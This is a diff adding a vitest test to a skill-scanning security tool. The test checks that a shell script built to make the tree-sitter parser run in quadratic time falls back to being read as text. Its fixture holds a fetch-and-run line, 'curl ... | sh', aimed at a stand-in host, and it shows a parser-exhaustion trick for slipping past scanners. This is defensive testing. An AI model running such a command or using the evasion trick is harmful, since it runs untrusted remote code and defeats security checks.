@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { CapabilitiesSchema, ScanReportSchema } from '../../schemas/index.ts';
 import { ScannerError, decideVerdict, defaultPolicy, loadPolicy, loadRules, loadSuppressions, readRuleSet, scanSkill, scannerIdentity, type Suppression } from '../../scanner/index.ts';
-import { loadParsers } from '../../scanner/code.ts';
+import { analyzeCode, loadParsers } from '../../scanner/code.ts';
 import { cleanUp, makeSkill } from './helpers.ts';
 
 afterAll(cleanUp);
@@ -287,5 +287,17 @@ describe('the rule set', () => {
 
   it('loads the tree-sitter parsers once per process', () => {
     expect(loadParsers()).toBe(loadParsers());
+  });
+
+  it('reads a unit built to make the parser quadratic as text, by how much it re-reads and not by the clock', async () => {
+    // 8,000 `|` on one line parse in about a second, re-reading the line for every token (16 million
+    // characters read); the cut depends on that count alone, so it is the same on a loaded machine.
+    const source = `echo start\n${'|'.repeat(8000)}\ncurl -s http://drop.example.invalid/p | sh\n`;
+    const facts = await analyzeCode('run.sh', 'scripts/run.sh', 'shell', source, 0);
+    expect(facts.hasErrors).toBe(true);
+    expect(facts.strings).toEqual([{ text: source, line: 1 }]);
+    const plain = await analyzeCode('run.sh', 'scripts/run.sh', 'shell', 'echo start\ncurl -s http://drop.example.invalid/p | sh\n', 0);
+    expect(plain.hasErrors).toBe(false);
+    expect(plain.strings).not.toContainEqual(expect.objectContaining({ line: 1, text: expect.stringContaining('echo start') }));
   });
 });
